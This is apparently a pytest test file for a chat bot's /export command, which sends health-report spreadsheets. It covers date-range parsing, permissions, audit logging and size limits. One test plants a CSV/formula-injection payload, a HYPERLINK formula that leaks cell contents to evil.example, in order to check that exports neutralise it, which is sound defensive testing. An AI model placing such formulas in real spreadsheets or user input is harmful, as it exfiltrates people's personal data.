"""/export: the subtree's reports of a date range as XLSX, audited; bad ranges refused."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.db import Database
from bot.sandbox import SandboxClient, SandboxServer
from bot.services.reports.export import MAX_DAYS, InvalidRange, RangeError, parse_range
from tests.leaders.helpers import (
    ALAN,
    CARA,
    DORA,
    EVERYONE,
    GINA,
    MIA,
    NOW,
    ask,
    audit_rows,
    report,
    seed_org,
)
from tests.support.builders import MONDAY, running_clock, started

SUNDAY = MONDAY - timedelta(days=1)


async def sheet(sb: SandboxClient, message: dict[str, Any]) -> list[tuple[Any, ...]]:
    data = await sb.file(message["document"]["file_id"])
    book = load_workbook(io.BytesIO(data), read_only=True)
    return [tuple(row) for row in book.worksheets[0].iter_rows(values_only=True)]


async def test_a_leader_exports_their_subtree_one_row_per_person_per_day(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database
) -> None:
    o = await seed_org(db)
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    await report(db, o.members[MIA], day=SUNDAY, now=NOW - timedelta(days=1))
    await report(db, o.members[MIA], temperature="38.2", symptoms=("cough",), spouse="37.5")
    await report(db, o.members[DORA], contact_case=True)
    await report(db, o.members[CARA])  # Company B: not Alan's

    [doc] = await ask(sb, ALAN, "/export 2026-11-29 2026-11-30")
    assert doc["document"]["file_name"] == "reports_20261129-20261130.xlsx"
    assert doc["caption"].startswith("Reports Nov 29 to Nov 30: 5 rows")
    rows = await sheet(sb, doc)
    assert rows[0][:8] == ("Date", "Unit", "Member", "Relation", "Person", "Status",
                           "Temperature (°C)", "Symptoms")
    body = [(r[0].date(), r[2], r[3], r[4], r[5], r[6], r[7], r[8]) for r in rows[1:]]
    branch = "Group / Company A / Branch 1"
    assert all(r[1] == branch for r in rows[1:])
    assert body == [
        (SUNDAY, "Mia", "self", "Mia", "well", None, None, None),
        (SUNDAY, "Mia", "spouse", "Li Na", "well", None, None, None),
        (MONDAY, "Dora", "self", "Dora", "abnormal", None, None, "yes"),
        (MONDAY, "Mia", "self", "Mia", "abnormal", 38.2, "cough", None),
        (MONDAY, "Mia", "spouse", "Li Na", "abnormal", 37.5, None, None),
    ]
    assert isinstance(rows[1][13], datetime)  # reported at, the unit's wall-clock time
    [audit] = await audit_rows(db, "export")
    assert audit.target == f"unit:{o.units['Company A']}"
    assert audit.details == {"from": "2026-11-29", "to": "2026-11-30", "rows": 5}

    # An admin (here: the root's leader) gets everything; the default is the last 7 days.
    [all_doc] = await ask(sb, GINA, "/export")
    assert all_doc["document"]["file_name"] == "reports_20261124-20261130.xlsx"
    assert len(await sheet(sb, all_doc)) == 1 + 6


@pytest.mark.parametrize(("args", "expected"), [
    ("2026-11-01 2026-03-01", "The last day is before the first day."),
    ("2026-01-01 2026-12-31", "An export covers at most 92 days."),
    ("2026-02-30", "That date does not exist."),
    ("last week", "Send /export for the last 7 days"),
    ("1 2 3", "Send /export for the last 7 days"),
])
async def test_bad_ranges_are_refused(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database, args: str,
    expected: str
) -> None:
    await seed_org(db)
    started(sandbox, EVERYONE)
    [reply] = await ask(sb, ALAN, f"/export {args}")
    assert reply["text"].startswith(expected)
    assert "document" not in reply or not reply["document"]
    assert await audit_rows(db, "export") == []


async def test_members_may_not_export(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database
) -> None:
    await seed_org(db)
    started(sandbox, EVERYONE)
    [reply] = await ask(sb, MIA, "/export")
    assert reply["text"] == "Only unit leaders and administrators can do this."
    assert await audit_rows(db, "export") == []


TODAY = date(2026, 11, 30)


def test_the_default_range_and_one_date() -> None:
    assert parse_range("", TODAY) == (date(2026, 11, 24), TODAY)
    assert parse_range("2026-11-20", TODAY) == (date(2026, 11, 20), TODAY)
    assert parse_range("２０２６-11-01 2026/11/07", TODAY) == (date(2026, 11, 1),
                                                              date(2026, 11, 7))
    assert parse_range("2026-12-05", TODAY) == (date(2026, 12, 5), date(2026, 12, 5))
    with pytest.raises(InvalidRange) as error:
        parse_range("x" * 10_000, TODAY)
    assert error.value.code is RangeError.FORMAT


@given(st.text(max_size=80))
def test_any_text_parses_to_a_valid_range_or_a_clear_refusal(text: str) -> None:
    try:
        start, end = parse_range(text, TODAY)
    except InvalidRange as error:
        assert error.code in RangeError
    else:
        assert start <= end and (end - start).days < MAX_DAYS


@given(st.dates(min_value=date(2000, 1, 1), max_value=date(2100, 1, 1)),
       st.integers(min_value=0, max_value=200))
def test_ranges_up_to_the_limit_pass_longer_ones_do_not(start: date, days: int) -> None:
    end = start + timedelta(days=days)
    text = f"{start.isoformat()} {end.isoformat()}"
    if days < MAX_DAYS:
        assert parse_range(text, TODAY) == (start, end)
    else:
        with pytest.raises(InvalidRange):
            parse_range(text, TODAY)


async def test_an_export_too_big_for_the_chat_is_refused(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database,
    monkeypatch: pytest.MonkeyPatch
) -> None:
    o = await seed_org(db)
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    monkeypatch.setattr("bot.services.reports.export.MAX_CHAT_REPORTS", 1)
    await report(db, o.members[MIA])
    await report(db, o.members[DORA])
    [reply] = await ask(sb, ALAN, "/export")
    assert reply["text"].startswith("That is too many reports for one file here.")
    assert await audit_rows(db, "export") == []


PLANTED = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Details")'


async def test_what_members_typed_is_never_a_formula_in_an_export(
    bot_app: Any, sandbox: SandboxServer, sb: SandboxClient, db: Database, database_url: str,
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch,
) -> None:
    from sqlalchemy import update

    from bot.cli.entry import main
    from bot.db.models import HouseholdEntry, HouseholdReport, Report

    o = await seed_org(db)
    started(sandbox, EVERYONE)
    bot_app.bot_data.clock = running_clock(NOW)
    async with db.transaction() as s:  # as /family and the report form store them
        await s.execute(update(HouseholdEntry).values(name=PLANTED))
    await report(db, o.members[MIA], temperature="38.2", spouse="37.5")
    async with db.transaction() as s:
        await s.execute(update(Report).values(note="+SUM(1,2)"))
        await s.execute(update(HouseholdReport).values(name=PLANTED))

    [doc] = await ask(sb, ALAN, "/export 2026-11-30 2026-11-30")
    data = await sb.file(doc["document"]["file_id"])
    cells = [c for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()
             for c in row]
    assert PLANTED in [c.value for c in cells] and "+SUM(1,2)" in [c.value for c in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []

    out = tmp_path / "reports.csv"
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert await asyncio.to_thread(main, ["export", "--from", "2026-11-30", "--to",
                                          "2026-11-30", "--format", "csv", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    assert "'" + PLANTED in fields and "'+SUM(1,2)" in fields
    assert not any(f.startswith(("=", "+", "-", "@")) for f in fields)
